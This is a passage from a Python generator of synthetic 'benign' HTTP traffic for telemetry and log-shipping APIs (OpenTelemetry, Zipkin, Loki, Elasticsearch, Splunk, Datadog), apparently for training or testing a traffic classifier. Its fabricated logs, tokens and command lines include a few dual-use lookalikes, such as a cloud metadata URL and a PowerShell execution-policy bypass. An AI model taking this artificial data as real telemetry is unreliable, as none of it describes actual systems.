net/http.HandlerFunc.ServeHTTP(0xc000128fc0, {0x1a2b3c0, 0xc0004b21c0}, 0xc000532000)
\t/usr/local/go/src/net/http/server.go:2220 +0x29
created by net/http.(*Server).Serve in goroutine 1
\t/usr/local/go/src/net/http/server.go:3360 +0x485"""

RUBY_TRACE = """ActiveRecord::RecordNotFound (Couldn't find Subscription with 'id'=88123):
app/controllers/subscriptions_controller.rb:19:in `set_subscription'
actionpack (7.2.1) lib/abstract_controller/callbacks.rb:38:in `block in <module:Callbacks>'
activesupport (7.2.1) lib/active_support/callbacks.rb:361:in `block in make_lambda'"""

TRACES = [("java", JAVA_TRACE), ("java", JAVA_TRACE_SQL), ("python", PY_TRACE),
          ("python", PY_TRACE2), ("php", PHP_TRACE), ("nodejs", NODE_TRACE),
          ("dotnet", DOTNET_TRACE), ("go", GO_TRACE), ("ruby", RUBY_TRACE)]

CMDLINES = [
    "/bin/sh -c /usr/local/bin/healthcheck --port 8080 --timeout 2s",
    "curl -fsS --max-time 3 http://127.0.0.1:9090/-/ready",
    "python3 /opt/app/manage.py migrate --noinput",
    "nginx -g daemon off;",
    "java -Xms512m -Xmx2g -XX:+UseG1GC -Dspring.profiles.active=prod -jar /app/billing.jar",
    "node --enable-source-maps dist/server.js",
    "/usr/bin/pg_dump -Fc -h db-primary.internal -U backup -f /backups/shop-20261205.dump shop",
    "tar -czf /tmp/logs-2026-12-05.tar.gz /var/log/nginx/access.log /var/log/nginx/error.log",
    "sh -c find /var/lib/app/tmp -type f -mtime +2 -delete",
    "/usr/sbin/logrotate /etc/logrotate.conf",
    "bash /docker-entrypoint.sh postgres",
    "gunicorn app.wsgi:application --workers 4 --bind 0.0.0.0:8000 --access-logfile -",
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
    "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Agent\\collect-inventory.ps1",
    "/usr/bin/rsync -az --delete /srv/static/ deploy@cdn-origin-2:/srv/static/",
    "kubectl rollout status deployment/checkout-api -n prod --timeout=120s",
    "ps aux --sort=-%mem",
    "grep -c ERROR /var/log/app/app.log",
    "/usr/lib/jvm/java-21-openjdk/bin/jcmd 1 GC.heap_info",
]

LOG_LINES = [
    'GET /api/v2/orders?status=open&page=2 200 41ms ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)" ip=203.0.113.18',
    "Connection to redis-master.cache.svc.cluster.local:6379 lost, retrying in 500ms (attempt 3/10)",
    "User 48213 logged in from 198.51.100.23 (mfa=totp)",
    "Payment intent pi_3QdK2m authorised: amount=4999 currency=EUR",
    "Slow query (1843 ms): SELECT * FROM order_items WHERE order_id IN (SELECT id FROM orders WHERE created_at > '2026-12-01')",
    "Cache miss for key product:8812:de-DE, fetching from origin",
    "Scheduled job nightly-export finished in 00:04:12, 18233 rows written to s3://acme-exports/2026/12/05/orders.csv.gz",
    "Rejected webhook: signature mismatch (expected t=1796461200,v1=5f2b..., got none)",
    "Worker 7 heartbeat ok, queue depth=12, rss=412MB",
    "Deprecated config key 'server.tomcat.max-threads' used; use 'server.tomcat.threads.max' instead",
    "Feature flag new-checkout evaluated to true for user 48213 (rule: beta-testers)",
    "TLS handshake error from 10.42.7.19:51544: remote error: tls: bad certificate",
    "Retrying request to https://api.stripe.com/v1/charges after 429 Too Many Requests",
    "Nutzer 10294 hat das Passwort geändert",
    "注文 991204 の出荷が完了しました",
    "Échec de l'envoi de l'e-mail à c.durand@example.fr : boîte pleine",
    "Migration 2026_11_30_104512_add_index_on_orders_created_at ran in 2.31s",
    "kube-probe/1.31 GET /healthz 200 0.4ms",
    "config reloaded from /etc/app/config.yaml (checksum sha256:9f2c...e1)",
    "Upload complete: C:\\Users\\jmartin\\Documents\\Q4-report.xlsx -> sharepoint://finance/reports",
]


def sql_for_system():
    system, stmt = pick(DB_STATEMENTS)
    return system, stmt


# ---------------------------------------------------------------------------
# benign: OpenTelemetry, Zipkin, Jaeger
# ---------------------------------------------------------------------------

OTLP_HOSTS = ["otel-collector.observability.svc.cluster.local:4318",
              "otlp.telemetry.acme-corp.de", "collector.example.net:4318",
              "localhost:4318", "otel.internal.example.org"]

OTLP_UAS = {
    "java": "OTel-OTLP-Exporter-Java/1.44.1",
    "python": "OTel-OTLP-Exporter-Python/1.28.2",
    "nodejs": "OTel-OTLP-Exporter-JavaScript/0.55.0",
    "go": "OTel-OTLP-Exporter-Go/1.32.0",
    "dotnet": "OTel-OTLP-Exporter-Dotnet/1.10.0",
    "php": "OTel-OTLP-Exporter-PHP/1.1.0",
    "ruby": "OTel-OTLP-Exporter-Ruby/0.29.1",
    "collector": "OpenTelemetry Collector Contrib/0.114.0 (linux/amd64)",
}


def oattr(k, v):
    if isinstance(v, bool):
        val = {"boolValue": v}
    elif isinstance(v, int):
        val = {"intValue": str(v)}
    elif isinstance(v, float):
        val = {"doubleValue": v}
    elif isinstance(v, list):
        val = {"arrayValue": {"values": [{"stringValue": x} for x in v]}}
    else:
        val = {"stringValue": v}
    return {"key": k, "value": val}


def otlp_resource(lang, svc=None):
    svc = svc or pick(SERVICES)
    attrs = [
        oattr("service.name", svc),
        oattr("service.version", "%d.%d.%d" % (R.randint(1, 9), R.randint(0, 40), R.randint(0, 20))),
        oattr("deployment.environment.name", pick(["production", "staging", "prod-eu"])),
        oattr("telemetry.sdk.language", lang if lang != "collector" else "go"),
        oattr("telemetry.sdk.name", "opentelemetry"),
        oattr("host.name", pick(K8S_NODES)),
        oattr("k8s.namespace.name", pick(NAMESPACES)),
        oattr("k8s.pod.name", "%s-%s-%s" % (svc, hexid(10), hexid(5))),
    ]
    if lang == "java":
        attrs.append(oattr("process.runtime.description", "Eclipse Adoptium OpenJDK 64-Bit Server VM 21.0.5+11-LTS"))
        attrs.append(oattr("process.command_line", "/opt/java/openjdk/bin/java -javaagent:/otel/opentelemetry-javaagent.jar -jar /app/app.jar"))
    if lang == "python":
        attrs.append(oattr("process.command_args", ["/usr/local/bin/python3", "-m", "gunicorn", "app.wsgi:application"]))
    return {"attributes": attrs}


def otlp_span(name, kind, attrs, parent=True, events=None, status=None, trace=None):
    start = ts_ns()
    sp = {
        "traceId": trace or hexid(32),
        "spanId": hexid(16),
        "name": name,
        "kind": kind,
        "startTimeUnixNano": str(start),
        "endTimeUnixNano": str(start + R.randint(200000, 900000000)),
        "attributes": attrs,
        "status": status or {},
    }
    if parent:
        sp["parentSpanId"] = hexid(16)
    if events:
        sp["events"] = events
    return sp


def otlp_headers(lang, host=None, gzip=False):
    h = [["Host", host or pick(OTLP_HOSTS)], ["User-Agent", OTLP_UAS[lang]],
         ["Content-Type", "application/json"], ["Accept", "*/*"]]
    if R.random() < 0.3:
        h.append(["Authorization", "Bearer " + hexid(40)])
    return h


def gen_otlp_traces(n):
    for i in range(n):
        lang = pick(["java", "python", "nodejs", "go", "dotnet", "php", "ruby", "collector"])
        trace = hexid(32)
        spans = []
        # server span
        path = pick(URL_PATHS)
        route = path.split("?")[0]
        srv_attrs = [
            oattr("http.request.method", pick(["GET", "POST", "PUT"])),
            oattr("url.path", route),
            oattr("url.query", path.split("?")[1] if "?" in path else ""),
            oattr("url.scheme", "https"),
            oattr("http.route", route),
            oattr("http.response.status_code", pick([200, 200, 200, 201, 204, 302, 404, 500])),
            oattr("user_agent.original", pick(BROWSER_UAS)),
            oattr("client.address", "203.0.113.%d" % R.randint(1, 254)),
            oattr("server.address", pick(["shop.example.com", "api.acme-corp.de", "www.example.jp"])),
        ]
        spans.append(otlp_span("%s %s" % (srv_attrs[0]["value"]["stringValue"], route), 2, srv_attrs, parent=False, trace=trace))
        # db span
        system, stmt = sql_for_system()
        if R.random() < 0.15:
            system, stmt = "mongodb", pick(MONGO_STATEMENTS)
        elif R.random() < 0.1:
            system, stmt = "redis", pick(REDIS_STATEMENTS)
        op = stmt.split()[0].strip("{").upper() if system not in ("mongodb",) else "find"
        db_attrs = [
            oattr("db.system", system),
            oattr("db.namespace", pick(["shop", "billing", "hr", "analytics", "app"])),
            oattr("db.statement" if R.random() < 0.6 else "db.query.text", stmt),
            oattr("db.operation.name", op),
            oattr("server.address", pick(["db-primary.internal", "mysql-0.mysql.data.svc", "10.42.8.11", "sqlsrv-prod-01.corp.local"])),
            oattr("server.port", pick([5432, 3306, 1433, 1521, 27017, 6379, 8123])),
        ]
        spans.append(otlp_span("%s %s" % (op, system), 3, db_attrs, trace=trace))
        # outbound http client span
        if R.random() < 0.6:
            out = pick(["https://api.stripe.com/v1/payment_intents/pi_3QdK2m/confirm",
                        "http://inventory-worker.shop.svc.cluster.local:8080/api/stock?sku=SKU-11-BLK&warehouse=FRA1",
                        "https://maps.googleapis.com/maps/api/geocode/json?address=Hauptstra%C3%9Fe+5%2C+Berlin&key=REDACTED",
                        "https://hooks.slack.com/services/T000/B000/REDACTED",
                        "http://169.254.169.254/latest/api/token",
                        "https://s3.eu-central-1.amazonaws.com/acme-exports/2026/12/05/orders.csv.gz?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=900"])
            cl_attrs = [oattr("http.request.method", "GET" if "token" not in out else "PUT"),
                        oattr("url.full", out),
                        oattr("http.response.status_code", pick([200, 200, 201, 429, 503]))]
            spans.append(otlp_span("GET", 3, cl_attrs, trace=trace))
        # exception event
        if R.random() < 0.35:
            tl, tr = pick(TRACES)
            first = tr.splitlines()[0]
            etype = first.split(":")[0] if not first.startswith("Traceback") else tr.splitlines()[-1].split(":")[0]
            ev = [{"timeUnixNano": str(ts_ns()), "name": "exception",
                   "attributes": [oattr("exception.type", etype),
                                  oattr("exception.message", first[:160]),
                                  oattr("exception.stacktrace", tr)]}]
            spans.append(otlp_span("process", 1, [oattr("code.function", "handle")], events=ev,
                                   status={"code": 2, "message": first[:80]}, trace=trace))
        scope = pick([("io.opentelemetry.jdbc", "2.10.0-alpha"), ("opentelemetry.instrumentation.django", "0.49b2"),
                      ("@opentelemetry/instrumentation-pg", "0.48.0"), ("go.opentelemetry.io/contrib/instrumentation/net/http/otelhttp", "0.57.0"),
                      ("OpenTelemetry.Instrumentation.SqlClient", "1.10.0-beta.1")])
        body = J({"resourceSpans": [{"resource": otlp_resource(lang),
                                     "scopeSpans": [{"scope": {"name": scope[0], "version": scope[1]},
                                                     "spans": spans}]}]})
        benign("otlp_traces", "POST", "/v1/traces", otlp_headers(lang), body)


def gen_otlp_metrics(n):
    for i in range(n):
        lang = pick(list(OTLP_UAS))
        metrics = []
        metrics.append({"name": "http.server.request.duration", "unit": "s",
                        "histogram": {"aggregationTemporality": 2, "dataPoints": [{
                            "startTimeUnixNano": str(ts_ns()), "timeUnixNano": str(ts_ns()),
                            "count": str(R.randint(10, 5000)), "sum": round(R.uniform(1, 900), 4),
                            "bucketCounts": [str(R.randint(0, 900)) for _ in range(6)],
                            "explicitBounds": [0.005, 0.01, 0.05, 0.1, 0.5],
                            "attributes": [oattr("http.route", pick(URL_PATHS).split("?")[0]),
                                           oattr("http.request.method", "GET"),
                                           oattr("http.response.status_code", 200)]}]}})
        metrics.append({"name": "db.client.connections.usage", "unit": "{connection}",
                        "sum": {"aggregationTemporality": 2, "isMonotonic": False, "dataPoints": [{
                            "timeUnixNano": str(ts_ns()), "asInt": str(R.randint(0, 40)),
                            "attributes": [oattr("pool.name", "HikariPool-1"), oattr("state", pick(["used", "idle"]))]}]}})
        metrics.append({"name": "process.runtime.jvm.memory.usage" if lang == "java" else "process.memory.usage", "unit": "By",
                        "gauge": {"dataPoints": [{"timeUnixNano": str(ts_ns()), "asInt": str(R.randint(10**7, 4 * 10**9))}]}})
        if R.random() < 0.5:
            metrics.append({"name": "queue.depth", "unit": "{message}",
                            "gauge": {"dataPoints": [{"timeUnixNano": str(ts_ns()), "asDouble": float(R.randint(0, 400)),
                                                      "attributes": [oattr("messaging.destination.name", pick(["orders.created", "emails.outbound", "exports"]))]}]}})
        body = J({"resourceMetrics": [{"resource": otlp_resource(lang),
                                       "scopeMetrics": [{"scope": {"name": "io.opentelemetry.runtime-telemetry-java17" if lang == "java" else "app.metrics"},
                                                         "metrics": metrics}]}]})
        benign("otlp_metrics", "POST", "/v1/metrics", otlp_headers(lang), body)


def gen_otlp_logs(n):
    for i in range(n):
        lang = pick(list(OTLP_UAS))
        recs = []
        for _ in range(R.randint(1, 4)):
            sev = pick([("INFO", 9), ("WARN", 13), ("ERROR", 17), ("DEBUG", 5)])
            if sev[0] == "ERROR" and R.random() < 0.7:
                tl, tr = pick(TRACES)
                msg = "Unhandled exception while processing request\n" + tr
            else:
                msg = pick(LOG_LINES)
            attrs = [oattr("log.file.path", pick(["/var/log/app/app.log", "/var/log/pods/shop_checkout-api-7d9c/app/0.log",
                                                   "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex261205.log", "/var/log/nginx/error.log"])),
                     oattr("thread.name", pick(["http-nio-8080-exec-7", "MainThread", "worker-3", "pool-2-thread-1"]))]
            if R.random() < 0.4:
                attrs.append(oattr("http.url", "https://shop.example.com" + pick(URL_PATHS)))
            recs.append({"timeUnixNano": str(ts_ns()), "observedTimeUnixNano": str(ts_ns()),
                         "severityNumber": sev[1], "severityText": sev[0],
                         "body": {"stringValue": msg}, "attributes": attrs,
                         "traceId": hexid(32), "spanId": hexid(16)})
        body = J({"resourceLogs": [{"resource": otlp_resource(lang),
                                    "scopeLogs": [{"scope": {"name": pick(["org.slf4j", "logging", "pino", "zap", "Microsoft.Extensions.Logging"])},
                                                   "logRecords": recs}]}]})
        benign("otlp_logs", "POST", "/v1/logs", otlp_headers(lang), body)


def gen_zipkin(n):
    for i in range(n):
        spans = []
        trace = hexid(16 if R.random() < 0.3 else 32)
        for _ in range(R.randint(1, 3)):
            system, stmt = sql_for_system()
            tags = pick([
                {"http.method": "GET", "http.path": pick(URL_PATHS).split("?")[0], "http.status_code": "200"},
                {"sql.query": stmt, "db.type": "sql", "jdbc.url": "jdbc:%s://db-primary.internal/shop" % system},
                {"http.url": "https://shop.example.com" + pick(URL_PATHS), "mvc.controller.class": "OrderController",
                 "mvc.controller.method": "list"},
                {"error": pick(["Connection reset by peer", "Read timed out", "500 Internal Server Error"]),
                 "http.method": "POST", "http.path": "/api/v2/orders"},
            ])
            spans.append({"traceId": trace, "id": hexid(16), "parentId": hexid(16),
                          "kind": pick(["SERVER", "CLIENT"]), "name": pick(["get /api/v2/orders", "query", "post", "select"]),
                          "timestamp": ts_ms() * 1000, "duration": R.randint(100, 900000),
                          "localEndpoint": {"serviceName": pick(SERVICES), "ipv4": "10.42.%d.%d" % (R.randint(0, 20), R.randint(2, 250))},
                          "remoteEndpoint": {"serviceName": "postgres", "port": 5432} if "sql.query" in tags else {"ipv4": "10.42.1.9", "port": 8080},
                          "tags": tags})
        ua = pick(["zipkin-reporter-java/3.4.2", "Go-http-client/1.1", "okhttp/4.12.0", "python-requests/2.32.3"])
        h = [["Host", pick(["zipkin.observability.svc:9411", "tracing.example.net"])], ["User-Agent", ua],
             ["Content-Type", "application/json"], ["Accept", "*/*"]]
        benign("zipkin_v2", "POST", "/api/v2/spans", h, J(spans))


def gen_jaeger_query(n):
    for i in range(n):
        svc = pick(SERVICES)
        params = [("service", svc), ("operation", pick(["HTTP GET /api/v2/orders", "SELECT", "all", "charge"])),
                  ("limit", str(pick([20, 50, 100]))), ("lookback", pick(["1h", "2h", "custom"])),
                  ("start", str(ts_ms() * 1000)), ("end", str(ts_ms() * 1000 + 3600000000))]
        if R.random() < 0.6:
            params.append(("tags", J(pick([{"http.status_code": "500"}, {"error": "true"},
                                           {"db.statement": "SELECT * FROM orders WHERE id = ?"},
                                           {"http.url": "https://shop.example.com/checkout?step=2"}]))))
        if R.random() < 0.4:
            params.append(("minDuration", pick(["100ms", "1s", "250ms"])))
        h = [["Host", "jaeger.observability.example.net"], ["User-Agent", pick(BROWSER_UAS)],
             ["Accept", "application/json"], ["Referer", "https://jaeger.observability.example.net/search?service=" + svc],
             ["Accept-Language", pick(LANGS)]]
        if i % 3 == 0:
            benign("jaeger_trace", "GET", "/api/traces/" + hexid(32) + "?prettyPrint=true", h)
        else:
            benign("jaeger_search", "GET", "/api/traces?" + qs(params), h)


# ---------------------------------------------------------------------------
# benign: metrics push (Pushgateway, InfluxDB, Graphite/StatsD)
# ---------------------------------------------------------------------------

def gen_pushgateway(n):
    jobs = ["nightly_backup", "db_migrations", "batch_export", "cert_renewal", "ci_pipeline", "cronjob_cleanup"]
    for i in range(n):
        job = pick(jobs)
        inst = pick(["backup-01", "runner-7", "etl-worker-2", "cron-%s" % hexid(5)])
        lines = []
        lines.append("# HELP %s_last_success_timestamp_seconds Unix time of the last successful run." % job)
        lines.append("# TYPE %s_last_success_timestamp_seconds gauge" % job)
        lines.append("%s_last_success_timestamp_seconds %d" % (job, ts_s()))
        lines.append("# TYPE %s_duration_seconds gauge" % job)
        lines.append("%s_duration_seconds %.3f" % (job, R.uniform(1, 4000)))
        lines.append('%s_processed_records_total{table="orders",source="s3://acme-exports/2026/12/"} %d' % (job, R.randint(100, 10**6)))
        if R.random() < 0.5:
            lines.append('backup_size_bytes{path="/var/lib/postgresql/16/main",host="db-primary"} %d' % R.randint(10**8, 10**11))
        if R.random() < 0.4:
            lines.append('ci_job_info{pipeline="build & test",ref="refs/heads/release/2026.12",commit="%s",runner="gitlab-runner #7"} 1' % hexid(40))
        if R.random() < 0.3:
            lines.append('windows_task_result{task="\\\\Microsoft\\\\Windows\\\\Backup\\\\Nightly",path="C:\\\\Backups"} 0')
        body = "\n".join(lines) + "\n"
        uri = "/metrics/job/%s/instance/%s" % (job, inst)
        if R.random() < 0.3:
            uri += "/env/prod"
        h = [["Host", pick(["pushgateway.monitoring.svc:9091", "pushgw.example.net"])],
             ["User-Agent", pick(["curl/8.5.0", "Python-urllib/3.12", "prometheus-client-java/1.3.1", "Go-http-client/1.1"])],
             ["Content-Type", "text/plain; version=0.0.4; charset=utf-8"], ["Accept", "*/*"]]
        benign("pushgateway", pick(["POST", "PUT"]), uri, h, body)


def gen_influx(n):
    for i in range(n):
        lines = []
        for _ in range(R.randint(2, 6)):
            m = pick(["cpu", "mem", "disk", "http_requests", "nginx", "sensor", "app_errors"])
            host = pick(["web-01", "web-02", "db-primary", "edge-fra-3", "WIN-SQL01"])
            t = ts_ns()
            if m == "cpu":
                lines.append("cpu,host=%s,cpu=cpu-total usage_user=%.2f,usage_system=%.2f,usage_idle=%.2f %d" % (host, R.uniform(0, 80), R.uniform(0, 20), R.uniform(0, 99), t))
            elif m == "disk":
                lines.append("disk,host=%s,path=/var/lib/docker,fstype=ext4 used_percent=%.1f,free=%di %d" % (host, R.uniform(10, 95), R.randint(10**9, 10**11), t))
            elif m == "http_requests":
                lines.append('http_requests,service=%s,route=/api/v2/orders,method=GET count=%di,p99_ms=%.1f %d' % (pick(SERVICES), R.randint(1, 9000), R.uniform(5, 900), t))
            elif m == "app_errors":
                lines.append('app_errors,service=%s,level=error message="Timeout after 30s calling https://api.example.com/v1/rates?base=EUR",count=1i %d' % (pick(SERVICES), t))
            elif m == "sensor":
                lines.append("sensor,site=Lagerhalle\\ Nord,room=K\\ 2 temperature=%.2f,humidity=%.1f %d" % (R.uniform(-5, 35), R.uniform(20, 80), t))
            else:
                lines.append("%s,host=%s value=%.3f %d" % (m, host, R.uniform(0, 1000), t))
        body = "\n".join(lines)
        if R.random() < 0.5:
            uri = "/api/v2/write?" + qs([("org", pick(["acme", "ops-team"])), ("bucket", pick(["telegraf", "app-metrics/autogen"])), ("precision", "ns")])
            auth = ["Authorization", "Token " + hexid(30) + "=="]
        else:
            uri = "/write?" + qs([("db", pick(["telegraf", "metrics"])), ("rp", "autogen"), ("precision", "ns")])
            auth = ["Authorization", "Basic " + b64("telegraf:" + hexid(12))]
        h = [["Host", pick(["influxdb.monitoring.svc:8086", "metrics.example.org", "influx.acme-corp.de"])],
             ["User-Agent", pick(["Telegraf/1.32.3 Go/1.23.3", "influxdb-client-python/1.48.0", "influxdb-client-java/7.2.0"])],
             ["Content-Type", "text/plain; charset=utf-8"], auth, ["Accept", "application/json"]]
        benign("influx_line", "POST", uri, h, body)


def gen_graphite_statsd(n):
    for i in range(n):
        if i % 2 == 0:
            lines = ["%s.%s.%s %s %d" % (pick(["prod", "stage"]), pick(["web01", "web02", "worker3"]),
                                          pick(["requests.count", "latency.p95", "jvm.heap.used", "queue.orders.depth"]),
                                          R.randint(0, 9000), ts_s()) for _ in range(R.randint(2, 5))]
            body = "\n".join(lines) + "\n"
            h = [["Host", "graphite.example.net"], ["User-Agent", "collectd/5.12.0"], ["Content-Type", "text/plain"]]
            benign("graphite_plaintext", "POST", "/metrics/plaintext", h, body)
        else:
            lines = ["%s:%d|%s" % (pick(["checkout.completed", "api.latency", "login.failed", "cache.hit"]),
                                   R.randint(1, 500), pick(["c", "ms", "g", "c|@0.1"])) + ("|#env:prod,service:%s" % pick(SERVICES) if R.random() < 0.5 else "")
                     for _ in range(R.randint(2, 5))]
            body = "\n".join(lines)
            h = [["Host", "statsd-http.monitoring.svc:8126"], ["User-Agent", pick(["hot-shots/10.2.1", "statsd-client-go/1.4"])],
                 ["Content-Type", "text/plain"]]
            benign("statsd_http", "POST", "/send", h, body)


# ---------------------------------------------------------------------------
# benign: log shipping (Loki, Elasticsearch bulk, Splunk HEC, Datadog, ...)
# ---------------------------------------------------------------------------

def access_log_line():
    ip = "%d.%d.%d.%d" % (pick([203, 198, 192, 81, 91, 185]), R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))
    path = pick(URL_PATHS + ["/wp-login.php", "/robots.txt", "/favicon.ico", "/sitemap.xml",
                              "/api/v1/login", "/assets/fonts/inter-var.woff2"])
    return '%s - - [05/Dec/2026:%02d:%02d:%02d +0000] "%s %s HTTP/1.1" %d %d "%s" "%s"' % (
        ip, R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), pick(["GET", "GET", "POST"]), path,
        pick([200, 200, 304, 404, 301, 500]), R.randint(0, 90000),
        pick(["-", "https://www.google.com/", "https://shop.example.com/cart"]), pick(BROWSER_UAS))


def any_log_line():
    r = R.random()
    if r < 0.35:
        return access_log_line()
    if r < 0.55:
        tl, tr = pick(TRACES)
        return "%s ERROR [%s] %s" % (iso(), pick(SERVICES), tr)
    return "%s %s %s" % (iso(), pick(["INFO", "WARN", "DEBUG", "ERROR"]), pick(LOG_LINES))


def gen_loki(n):
    for i in range(n):
        streams = []
        for _ in range(R.randint(1, 3)):
            labels = {"job": pick(["kubernetes-pods", "varlogs", "nginx", "systemd-journal"]),
                      "namespace": pick(NAMESPACES), "app": pick(SERVICES),
                      "filename": pick(["/var/log/nginx/access.log", "/var/log/syslog", "/var/log/pods/shop_checkout/app/0.log"])}
            vals = [[str(ts_ns()), any_log_line()] for _ in range(R.randint(1, 4))]
            if R.random() < 0.3:
                vals.append([str(ts_ns()), J({"level": "info", "msg": "request completed", "path": pick(URL_PATHS),
                                              "status": 200, "duration_ms": R.randint(1, 900)}),
                             {"trace_id": hexid(32)}])
            streams.append({"stream": labels, "values": vals})
        h = [["Host", pick(["loki-gateway.monitoring.svc", "logs-prod-eu-west-0.grafana.net", "loki.example.net:3100"])],
             ["User-Agent", pick(["promtail/3.3.0", "Alloy/v1.5.0 (linux; helm)", "Fluent-Bit", "Vector/0.43.0 (x86_64-unknown-linux-gnu)"])],
             ["Content-Type", "application/json"], ["X-Scope-OrgID", pick(["tenant-shop", "platform", "1"])]]
        benign("loki_push", "POST", "/loki/api/v1/push", h, J({"streams": streams}))


def gen_es_bulk(n):
    for i in range(n):
        idx = pick(["logs-nginx.access-default", "filebeat-8.16.1", "app-logs-2026.12.05", "logs-kubernetes.container_logs-prod"])
        lines = []
        for _ in range(R.randint(1, 4)):
            lines.append(J({"create": {"_index": idx}} if "logs-" in idx else {"index": {"_index": idx, "_id": hexid(20)}}))
            doc = {"@timestamp": iso(), "message": any_log_line(),
                   "log": {"file": {"path": pick(["/var/log/nginx/access.log", "/var/log/app/app.log", "C:\\ProgramData\\App\\logs\\service.log"])}},
                   "host": {"name": pick(K8S_NODES), "os": {"family": pick(["debian", "redhat", "windows"])}},
                   "agent": {"type": "filebeat", "version": "8.16.1"}, "ecs": {"version": "8.11.0"}}
            if R.random() < 0.4:
                doc["url"] = {"original": pick(URL_PATHS)}
                doc["user_agent"] = {"original": pick(BROWSER_UAS)}
            if R.random() < 0.3:
                doc["process"] = {"command_line": pick(CMDLINES), "pid": R.randint(100, 60000)}
            lines.append(J(doc))
        body = "\n".join(lines) + "\n"
        h = [["Host", pick(["es-logs.prod.example.net:9200", "opensearch.logging.svc:9200", "elastic.acme-corp.de"])],
             ["User-Agent", pick(["Elastic-filebeat/8.16.1 (linux; amd64; 7f2e3a1; 2024-11-19 10:13:02 +0000 UTC)",
                                  "Elastic-Logstash/8.16.1", "elasticsearch-py/8.16.0 (Python/3.12.7; elastic-transport/8.15.1)",
                                  "opensearch-py/2.7.1 (Python 3.11.9)", "Fluent-Bit"])],
             ["Content-Type", pick(["application/x-ndjson", "application/json"])],
             ["Authorization", "ApiKey " + b64(hexid(20) + ":" + hexid(22))], ["Accept", "application/json"]]
        benign("es_bulk", "POST", pick(["/_bulk", "/_bulk?filter_path=errors,items.*.error", "/%s/_bulk" % idx]), h, body)


def gen_splunk_hec(n):
    for i in range(n):
        evs = []
        for _ in range(R.randint(1, 3)):
            ev = {"time": ts_s() + R.random(), "host": pick(K8S_NODES + ["WIN-DC01.corp.local"]),
                  "source": pick(["/var/log/secure", "WinEventLog:Security", "http:app", "/var/log/nginx/access.log"]),
                  "sourcetype": pick(["linux_secure", "WinEventLog", "_json", "access_combined"]),
                  "index": pick(["main", "app", "security"])}
            if ev["sourcetype"] == "WinEventLog":
                ev["event"] = ("EventCode=4688 New Process Name: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "
                               "Process Command Line: powershell.exe -NoProfile -File C:\\Scripts\\rotate-logs.ps1 Creator Process Name: C:\\Windows\\System32\\svchost.exe")
            elif ev["sourcetype"] == "linux_secure":
                ev["event"] = "Dec  5 %02d:%02d:%02d bastion-1 sshd[%d]: Accepted publickey for deploy from 10.0.4.%d port %d ssh2: ED25519 SHA256:%s" % (
                    R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(1000, 40000), R.randint(2, 250), R.randint(30000, 60000), hexid(20))
            elif ev["sourcetype"] == "_json":
                ev["event"] = {"level": "error", "service": pick(SERVICES), "message": pick(LOG_LINES),
                               "request": {"method": "POST", "url": pick(URL_PATHS)}}
                ev["fields"] = {"env": "prod", "region": "eu-central-1"}
            else:
                ev["event"] = access_log_line()
            evs.append(J(ev))
        body = "".join(evs) if R.random() < 0.6 else "\n".join(evs)
        h = [["Host", pick(["splunk-hec.example.com:8088", "http-inputs-acme.splunkcloud.com"])],
             ["User-Agent", pick(["splunk-logging/0.11.1", "Splunk-OTel-Collector/0.113.0", "Fluent-Bit", "Go-http-client/1.1"])],
             ["Authorization", "Splunk " + "-".join([hexid(8), hexid(4), hexid(4), hexid(4), hexid(12)])],
             ["Content-Type", "application/json"]]
        benign("splunk_hec", "POST", "/services/collector/event", h, body)


def gen_datadog(n):
    for i in range(n):
        kind = i % 4
        ua_agent = "datadog-agent/7.59.1"
        if kind == 0:
            logs = []
            for _ in range(R.randint(1, 3)):
                logs.append({"ddsource": pick(["nginx", "java", "python", "nodejs", "postgresql"]),
                             "ddtags": "env:prod,version:%d.%d.%d,team:checkout" % (R.randint(1, 5), R.randint(0, 30), R.randint(0, 9)),
                             "hostname": pick(K8S_NODES), "service": pick(SERVICES),
                             "message": any_log_line(), "status": pick(["info", "warn", "error"])})
            h = [["Host", pick(["http-intake.logs.datadoghq.eu", "http-intake.logs.datadoghq.com"])], ["User-Agent", ua_agent],
                 ["DD-API-KEY", hexid(32)], ["Content-Type", "application/json"], ["DD-EVP-ORIGIN", "agent"]]
            benign("datadog_logs", "POST", "/api/v2/logs", h, J(logs))
        elif kind == 1:
            series = [{"metric": pick(["trace.http.request.duration", "system.load.1", "postgresql.rows_fetched", "app.checkout.count"]),
                       "type": pick([0, 1, 3]), "points": [{"timestamp": ts_s(), "value": round(R.uniform(0, 900), 3)}],
                       "resources": [{"name": pick(K8S_NODES), "type": "host"}],
                       "tags": ["env:prod", "service:%s" % pick(SERVICES), "db:shop", "query_signature:%s" % hexid(16)]}
                      for _ in range(R.randint(1, 3))]
            h = [["Host", "api.datadoghq.eu"], ["User-Agent", pick([ua_agent, "datadog-api-client-python/2.30.0 (python 3.12.7; os Linux; arch x86_64)"])],
                 ["DD-API-KEY", hexid(32)], ["Content-Type", "application/json"], ["Accept", "application/json"]]
            benign("datadog_series", "POST", "/api/v2/series", h, J({"series": series}))
        elif kind == 2:
            system, stmt = sql_for_system()
            tid = R.randint(10**17, 2**63 - 1)
            trace = [[{"trace_id": tid, "span_id": R.randint(10**17, 2**63 - 1), "parent_id": 0, "name": "rack.request",
                       "resource": "GET /api/v2/orders", "service": pick(SERVICES), "type": "web",
                       "start": ts_ns(), "duration": R.randint(10**5, 10**9), "error": 0,
                       "meta": {"http.url": "https://shop.example.com" + pick(URL_PATHS), "http.method": "GET", "http.status_code": "200",
                                "http.useragent": pick(BROWSER_UAS), "env": "prod"},
                       "metrics": {"_sampling_priority_v1": 1}},
                      {"trace_id": tid, "span_id": R.randint(10**17, 2**63 - 1), "parent_id": 1, "name": "%s.query" % system,
                       "resource": stmt, "service": "%s-db" % system, "type": "sql", "start": ts_ns(), "duration": R.randint(10**4, 10**8),
